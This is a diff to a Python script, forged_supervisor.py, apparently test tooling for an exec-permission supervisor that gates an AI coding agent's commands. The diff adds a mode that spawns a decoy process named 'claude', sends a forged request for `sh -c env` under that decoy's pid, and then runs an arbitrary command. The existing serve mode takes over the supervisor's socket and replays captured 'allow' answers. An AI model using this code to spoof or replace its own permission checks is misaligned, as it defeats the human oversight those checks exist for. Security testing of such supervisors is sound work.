@@ -4,6 +4,10 @@ takes its place, on the abstract socket named by HOOKSHIM_SOCK.
 
   forged_supervisor.py capture FILE    ask the real supervisor about a
                                        harmless exec; save its raw answer
+  forged_supervisor.py own CMD...      ask about `sh -c env` as if a
+                                       process named claude asked (a
+                                       decoy's pid), then exec CMD in
+                                       place (forged_own_shell.sh)
   forged_supervisor.py serve LOG [FILE] bind the name (its owner must be
                                        gone), answer every request with
                                        FILE's bytes (a replay) or a fresh
@@ -13,6 +17,7 @@ takes its place, on the abstract socket named by HOOKSHIM_SOCK.
 import os
 import socket
 import struct
+import subprocess
 import sys
 import time
 
@@ -27,12 +32,13 @@ def addr():
     return '\0' + os.environ['HOOKSHIM_SOCK'].lstrip('@')
 
 
-def capture(path):
+def ask(pid, exe, argv):
+    """An exec question as if pid asked; the raw answer."""
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     s.connect(addr())
     s.sendall(field('o', 'exec') + field('p', 'pre') +
-              field('i', str(os.getpid())) + field('c', os.getcwd()) +
-              field('e', '/bin/true') + field('a', 'true') +
+              field('i', str(pid)) + field('c', os.getcwd()) +
+              field('e', exe) + b''.join(field('a', a) for a in argv) +
               b'\0\0\0\0\0')
     s.shutdown(socket.SHUT_WR)
     reply = b''
@@ -41,6 +47,21 @@ def capture(path):
         if not chunk:
             break
         reply += chunk
+    return reply
+
+
+def own(cmd):
+    # a decoy whose command line names Claude Code
+    decoy = subprocess.Popen(['claude', '30'], executable='/bin/sleep')
+    time.sleep(0.1)
+    ask(decoy.pid, '/bin/sh', ['sh', '-c', 'env'])
+    decoy.kill()
+    print('forged: answered', flush=True)
+    os.execv(cmd[0], cmd)
+
+
+def capture(path):
+    reply = ask(os.getpid(), '/bin/true', ['true'])
     if b'allow' not in reply:
         sys.exit('capture: the real supervisor did not allow: %r' % reply)
     with open(path, 'wb') as f:
@@ -83,5 +104,7 @@ def serve(log, replay):
 
 if sys.argv[1] == 'capture':
     capture(sys.argv[2])
+elif sys.argv[1] == 'own':
+    own(sys.argv[2:])
 else:
     serve(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
